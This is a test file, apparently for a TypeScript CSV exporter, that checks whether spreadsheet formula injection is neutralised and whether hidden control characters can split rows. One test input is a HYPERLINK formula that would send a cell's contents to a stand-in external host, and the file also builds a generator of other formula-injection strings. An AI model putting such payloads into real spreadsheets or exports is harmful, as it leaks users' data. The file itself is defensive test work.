import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, textOfCell } from './csv';
import { writtenOut } from './visibleText';

const rowsOf = (csv: string, delimiter = ',') =>
  Papa.parse<string[]>(csv.replace(/\r\n$/, ''), { delimiter }).data;

/** What begins a formula in one program or another, and what such programs pass over. */
const SIGNS = ['=', '+', '-', '−', '@', '＝', '＋', '－', '＠'];
const UNSEEN = ['\n', '\r', '\r\n', '\t', '\0', '\u0001', '\u0085', '\u2028', '\u202e', '\ud800'];
const BETWEEN = [
  ';',
  ',',
  '|',
  '"',
  "'",
  ' ',
  '\u00a0',
  '(',
  '1',
  '.',
  'e',
  'HYPERLINK',
  'ß',
  '🎈',
];
const nasty = fc
  .array(fc.constantFrom(...SIGNS, ...UNSEEN, ...BETWEEN), { maxLength: 12 })
  .map((parts) => parts.join(''));

const isFormula = (cell: string) =>
  SIGNS.includes(cell.replace(/^[\s"]+/, '')[0]) && !/^[-+−]?[\d.,]*(e[-+]?\d+)?$/.test(cell);

describe('a table as CSV', () => {
  it.each([
    ['=HYPERLINK("http://a.example/?"&A1)\n', `'=HYPERLINK("http://a.example/?"&A1)␊`],
    ['\t=1+1', '␉=1+1'],
    [' =1+1', " '=1+1"],
    ['＝1+1', "'＝1+1"],
    ['x;=1+1', "x;'=1+1"],
    ['-1+1', "'-1+1"],
    ["'=1", "''=1"],
    ['-1,234.5', '-1,234.5'],
    ['+3e-5', '+3e-5'],
    ['−0.3 ± 0.1', '−0.3 ± 0.1'],
    ['a - b', 'a - b'],
  ])('has %j as %j', (text, cell) => {
    expect(rowsOf(csvText([text], []))).toEqual([[cell]]);
  });

  it('holds no formula and no line but its own, wherever a spreadsheet cuts, whatever its texts are', () => {
    fc.assert(
      fc.property(nasty, nasty, nasty, (column, first, second) => {
        const csv = csvText(
          ['n', column],
          [
            [1, first],
            [2, second],
          ],
        );
        expect(csv.split(/[\n\r]+/)).toHaveLength(4);
        for (const delimiter of [',', ';']) {
          expect(rowsOf(csv, delimiter).flat().filter(isFormula)).toEqual([]);
        }
        // a program that knows nothing of quotes
        expect(csv.split(/[;\t\r\n]/).filter(isFormula)).toEqual([]);
      }),
      { seed: 17, numRuns: 10_000 },
    );
  });

  it('is read back as its texts are seen', () => {
    fc.assert(
      fc.property(nasty, (text) => {
        const [, [cell]] = rowsOf(csvText(['n', 'text'], [[1, text]])).map(([, last]) => [last]);
        expect(textOfCell(cell)).toBe(writtenOut(text));
      }),
      { seed: 17, numRuns: 10_000 },
    );
  });

  it('has its numbers in full', () => {
    expect(rowsOf(csvText(['n'], [[-1 / 3], [1e21]]))).toEqual([
      ['n'],
      ['-0.3333333333333333'],
      ['1e+21'],
    ]);
  });
});
